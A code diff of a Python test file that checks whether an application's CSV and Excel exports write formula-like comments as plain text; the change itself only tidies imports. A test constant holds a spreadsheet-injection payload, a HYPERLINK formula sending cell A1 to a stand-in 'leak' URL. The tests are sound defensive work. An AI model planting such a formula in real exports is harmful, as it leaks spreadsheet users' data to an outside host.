@@ -17,7 +17,7 @@ from openpyxl import Workbook, load_workbook
 from dieuhanh.sheets import FORMULA_START, append_row, csv_cell
 from dieuhanh.tracing.exports import list_csv, list_xlsx
 from dieuhanh.tracing.present import LIST_HEADERS
-from tests.indicators.test_datavalues_api import PERIOD, post, row, telecom  # noqa: F401 (a fixture)
+from tests.factories import PERIOD, post, row
 
 A, B = "VN-2025:26743", "VN-2025:26740"
 LINK = '=HYPERLINK("http://example.invalid/?leak="&A1;"Bấm vào đây")'
@@ -105,7 +105,7 @@ def test_the_status_export_writes_the_directives_text_as_text(world):
     assert_text(found, "=SUM(1;2)")
 
 
-def test_the_excel_form_writes_stored_comments_as_text(world, telecom):  # noqa: F811
+def test_the_excel_form_writes_stored_comments_as_text(world, telecom):
     stored = {**row("postal_revenue", "24500"), "comment": LINK}
     assert post(world.operator_a, stored).status_code == 200
     response = world.operator_a.client().get(
@@ -115,7 +115,7 @@ def test_the_excel_form_writes_stored_comments_as_text(world, telecom):  # noqa:
     assert_text(cells(response.content), LINK)
 
 
-def test_the_data_values_csv_prefixes_formula_like_comments(world, telecom):  # noqa: F811
+def test_the_data_values_csv_prefixes_formula_like_comments(world, telecom):
     stored = {**row("postal_revenue", "24500"), "comment": LINK}
     assert (
         post(world.operator_a, stored, {**row("coverage", "87.5"), "comment": "@SUM(1;1)"}).status_code == 200
